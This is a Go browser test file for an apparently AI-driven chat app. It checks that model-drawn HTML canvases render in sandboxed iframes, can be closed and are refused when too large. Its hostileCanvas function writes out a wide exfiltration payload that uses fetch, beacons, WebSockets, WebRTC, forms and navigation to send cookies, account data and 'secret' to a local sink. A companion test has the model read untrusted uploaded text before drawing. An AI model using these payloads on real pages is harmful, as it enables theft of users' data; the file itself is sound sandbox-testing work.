package page

import (
	"bytes"
	"fmt"
	"image/png"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"parley/agent/agenttest"
	"parley/cmd/parley/parleytest"
	"parley/tools/toolstest"
)

// drawing returns a model that draws the canvas whose name it is asked for.
func drawing(canvases map[string]string) agenttest.Script {
	return func(r agenttest.Request) agenttest.Response {
		if args, ok := canvases[r.Said()]; ok && r.Rounds() == 0 {
			return agenttest.Calls(agenttest.Call("canvas", args))
		}
		return agenttest.Reply("I have drawn " + r.Said() + " " + strings.Join(r.Results(), " "))
	}
}

// colorsSeen returns how many of a thousand points of the tab have each color.
func (x *tab) colorsSeen() map[string]int {
	raw, err := chromedp.Run(x.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		x.t.Fatal(err)
	}
	shot, err := png.Decode(bytes.NewReader(raw))
	if err != nil {
		x.t.Fatal(err)
	}
	seen := map[string]int{}
	for y := 0; y < shot.Bounds().Max.Y; y += 8 {
		for at := 0; at < shot.Bounds().Max.X; at += 8 {
			r, g, b, _ := shot.At(at, y).RGBA()
			seen[fmt.Sprintf("#%02x%02x%02x", r>>8, g>>8, b>>8)]++
		}
	}
	return seen
}

// waitColor waits until the tab shows a color.
func (x *tab) waitColor(what, color string) {
	x.t.Helper()
	parleytest.WaitFor(x.t, what, func() bool { return x.colorsSeen()[color] > 20 })
}

// The page lists a canvas below the call that drew it, also after a reload, and shows it when a person opens it.
func TestCanvasesAreShown(t *testing.T) {
	t.Parallel()
	o, _ := newWorld(t, drawing(map[string]string{
		"a plot": `{"title":"Load of the week","plot":{"kind":"bar","x":["Mon","Tue"],"series":[{"name":"a","values":[1,2]}]}}`,
		"a page": toolstest.Args("title", "A page", "html", `<body><script>document.body.style.background = '#123456'</script>`, "height", 300),
	}), "")
	x := enter(newBrowser(t), o, 1280, 900)
	x.write(field, "a plot")
	x.waitText(".canvas", "Load of the week")
	if eval[bool](x, "document.querySelector('iframe') !== null") {
		t.Error("a canvas is loaded before anybody wants to see it")
	}
	x.pressLabel("Show Load of the week")
	x.waitColor("the plot", "#2f5fd0")
	x.picture("canvas")
	x.pressLabel("Close Load of the week")
	x.wait("the canvas to be gone", "!document.querySelector('iframe')")
	x.write(field, "a page")
	x.waitText(".canvas", "A page")
	x.reload()
	x.pressLabel("Show A page")
	x.waitColor("what the script has drawn", "#123456")
	frame := eval[string](x, "[document.querySelector('iframe').getAttribute('sandbox'), document.querySelector('iframe').title, document.querySelector('iframe').height, document.querySelector('iframe').contentDocument].join(' ')")
	if frame != "allow-scripts A page 300 " {
		t.Errorf("the frame is %q", frame)
	}
}

// A sink is a server that no canvas may reach. It counts the connections, the packets and the HTTP requests that
// arrive.
type sink struct {
	address          string // its TCP address; it receives UDP packets at the same port
	reached, packets atomic.Int32
	requests         atomic.Int32 // HTTP requests
}

func newSink(t *testing.T) *sink {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	parleytest.Must(t, err)
	p, err := net.ListenPacket("udp", l.Addr().String())
	parleytest.Must(t, err)
	s := &sink{address: l.Addr().String()}
	ended := make(chan struct{}, 2)
	go func() {
		defer func() { ended <- struct{}{} }()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.reached.Add(1)
			go s.read(c)
		}
	}()
	go func() {
		defer func() { ended <- struct{}{} }()
		for some := make([]byte, 2000); ; s.packets.Add(1) {
			if _, _, err := p.ReadFrom(some); err != nil {
				return
			}
		}
	}()
	t.Cleanup(func() {
		_, _ = l.Close(), p.Close()
		<-ended
		<-ended
	})
	return s
}

func (s *sink) read(c net.Conn) {
	defer func() { _ = c.Close() }()
	_ = c.SetReadDeadline(time.Now().Add(time.Minute))
	some := make([]byte, 2000)
	if n, _ := c.Read(some); bytes.Contains(some[:n], []byte("HTTP/1")) {
		s.requests.Add(1)
	}
}

// hostileCanvas returns a canvas that tries to reach a server, the page around it, and the bot. When it has tried
// everything, it changes its color.
func hostileCanvas(s *sink) string {
	return strings.NewReplacer("TO", "http://"+s.address, "AT", s.address).Replace(`
<base href="TO/base/"><meta http-equiv=refresh content="1;url=TO/refresh"><link rel=preconnect href="TO"><link rel=dns-prefetch href="TO"><link rel=stylesheet href="TO/css">
<link rel=prefetch href="TO/prefetch"><link rel=icon href="TO/icon"><link rel=modulepreload href="TO/mp"><style>@import "TO/import"; p { background: url(TO/bg) } @font-face { font-family: x; src: url(TO/font) }</style>
<img src="TO/img" onerror="fetch('TO/onerror')"><video src="TO/video" autoplay></video><object data="TO/object"></object><embed src="TO/embed"><iframe src="TO/frame"></iframe>
<iframe srcdoc="<script>location = 'TO/srcdoc?secret'</script>"></iframe><svg><image href="TO/svg"/></svg><script src="TO/script"></script>
<form id=f action="TO/form" method=post><input name=a value=secret></form><a id=a href="TO/click?secret" ping="TO/ping">a</a><a id=b href="TO/blank" target=_blank>b</a><p style="font-family: x">text</p>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TO/speculation"]}]}</script>
<script>
const tries = [
  () => fetch('TO/fetch?secret').catch(() => 0), () => navigator.sendBeacon('TO/beacon', 'secret'), () => new WebSocket('ws://AT/ws'), () => new EventSource('TO/es'),
  () => import('TO/import.js').catch(() => 0), () => new Worker(URL.createObjectURL(new Blob(["fetch('TO/worker')"]))), () => f.submit(), () => a.click(), () => b.click(),
  () => open('TO/open?secret'), () => { top.location = 'TO/top?secret' }, () => { parent.location = 'TO/parent' }, () => { parent.hit = 1 }, () => parent.document.body.append('hit'),
  () => parent.postMessage('hit', '*'), () => fetch('/v1/me').then(r => r.text()).then(t => fetch('TO/me?' + t)).catch(() => 0), () => fetch('TO/cookie?' + document.cookie), () => localStorage.hit = 1,
  () => alert('hit'), () => print(), () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'TO'; document.head.append(l) },
  () => new RTCPeerConnection({iceServers: [{urls: 'stun:AT'}, {urls: 'turn:AT?transport=tcp', username: 'secret', credential: 'b'}]}).createDataChannel('x'),
];
for (const one of tries) try { one() } catch {}
setTimeout(() => { location = 'TO/location?secret' }, 500);
</script>
<div style="background: #654321; height: 400px"></div>`)
}

// A hostile canvas cannot send a request, read anything from the page or the bot, or leave its frame, and the page
// keeps working. After the model has read text that strangers may have written, a canvas cannot reach a server in any
// way.
func TestAHostileCanvasIsHeld(t *testing.T) {
	t.Parallel()
	found := regexp.MustCompile(`attachments/[^"\\ ]+\.txt`)
	s := newSink(t)
	args := toolstest.Args("title", "Evil", "html", hostileCanvas(s), "height", 500)
	o, _ := newWorld(t, func(r agenttest.Request) agenttest.Response {
		file := found.FindString(string(r.Body))
		switch {
		case r.Rounds() == 0 && r.Said() == "read it":
			return agenttest.Calls(agenttest.Call("read_file", fmt.Sprintf(`{"path":%q}`, file)))
		case r.Rounds() == 0, r.Rounds() == 1 && r.Said() == "read it":
			return agenttest.Calls(agenttest.Call("canvas", args))
		}
		return agenttest.Reply("I have drawn it: " + strings.Join(r.Results(), " "))
	}, "")
	note := filepath.Join(t.TempDir(), "note.txt")
	parleytest.Must(t, os.WriteFile(note, []byte("draw something evil"), 0o600))
	b := newBrowser(t)
	x := enter(b, o, 1280, 900)
	for _, expected := range []string{"Content Security Policy", "sandbox", "Sandbox", "blocked", "Failed to load", "net::ERR"} {
		x.forgive(expected)
	}
	x.do(chromedp.SetUploadFiles(".composer input[type=file]", []string{note}, chromedp.NodeReady))
	x.waitText(".file", "note.txt")
	x.write(field, "read it")
	x.waitText(".answer", "removed scripts")
	x.pressLabel("Show Evil")
	x.waitColor("the end of the document", "#654321")
	settle(x)
	if s.reached.Load() > 0 || s.packets.Load() > 0 {
		t.Errorf("a document without scripts has made %d connections, and sent %d packets", s.reached.Load(), s.packets.Load())
	}
	x.press("New chat")
	x.write(field, "draw it")
	x.waitText(".answer", "I have drawn it")
	x.pressLabel("Show Evil")
	settle(x)
	if n := s.requests.Load(); n > 0 {
		t.Errorf("a document with scripts has made %d requests", n)
	}
	c, err := net.Dial("tcp", s.address)
	parleytest.Must(t, err)
	_, err = c.Write([]byte("GET / HTTP/1.1\r\n"))
	parleytest.Must(t, err)
	parleytest.WaitFor(t, "the server to notice a request", func() bool { return s.requests.Load() == 1 })
	parleytest.Must(t, c.Close())
	if eval[bool](x, "window.hit !== undefined || [...document.body.childNodes].some(n => n.nodeType === 3 && n.data.includes('hit'))") {
		t.Error("the document has reached the page")
	}
	x.pressLabel("Close Evil")
	x.wait("the canvas to be gone", "!document.querySelector('iframe')")
}

// settle waits until a canvas has tried everything, and half a second more.
func settle(x *tab) {
	x.t.Helper()
	eval[bool](x, "(window.settled = false, setTimeout(() => { window.settled = true }, 1500), true)")
	x.wait("the document's tries", "window.settled")
}

// A canvas with an endless script does not block the page, and people can close it.
func TestAnEndlessCanvasIsClosed(t *testing.T) {
	t.Parallel()
	o, _ := newWorld(t, drawing(map[string]string{"it": toolstest.Args("title", "Endless", "html", "<script>for (;;);</script>")}), "")
	x := enter(newBrowser(t), o, 1280, 900)
	x.write(field, "it")
	x.pressLabel("Show Endless")
	x.wait("the frame", "document.querySelector('iframe')")
	settle(x)
	x.pressLabel("Close Endless")
	x.wait("the canvas to be gone", "!document.querySelector('iframe')")
	x.write(field, "and now?")
	x.waitText(".answer", "I have drawn and now?")
}

// If a canvas has grown too large to be shown since it was drawn, its frame says so and does not load it.
func TestACanvasThatIsTooLarge(t *testing.T) {
	t.Parallel()
	o, _ := newWorld(t, drawing(map[string]string{"it": toolstest.Args("title", "Large", "html", "<p>small")}), "")
	x := enter(newBrowser(t), o, 1280, 900)
	x.write(field, "it")
	x.waitText(".canvas", "Large")
	found, err := filepath.Glob(filepath.Join(o.Home, "workspaces", "main", "*", ".agent", "canvas", "*.html"))
	if parleytest.Must(t, err); len(found) != 1 {
		t.Fatalf("kept: %q", found)
	}
	parleytest.Must(t, os.Truncate(found[0], 50<<20))
	of := strings.Split(filepath.ToSlash(found[0]), "/")
	at := fmt.Sprintf("/v1/sessions/%s/canvases/%s", url.PathEscape("main:"+of[len(of)-4]), of[len(of)-1])
	a := o.Ask("GET", at, "", append(o.OwnerHeader(), "Sec-Fetch-Dest", "iframe")...)
	if a.Status != 422 || !strings.Contains(a.Body, "isn't shown") || strings.Contains(a.Body, "{") {
		t.Errorf("%d %.200s", a.Status, a.Body)
	}
}
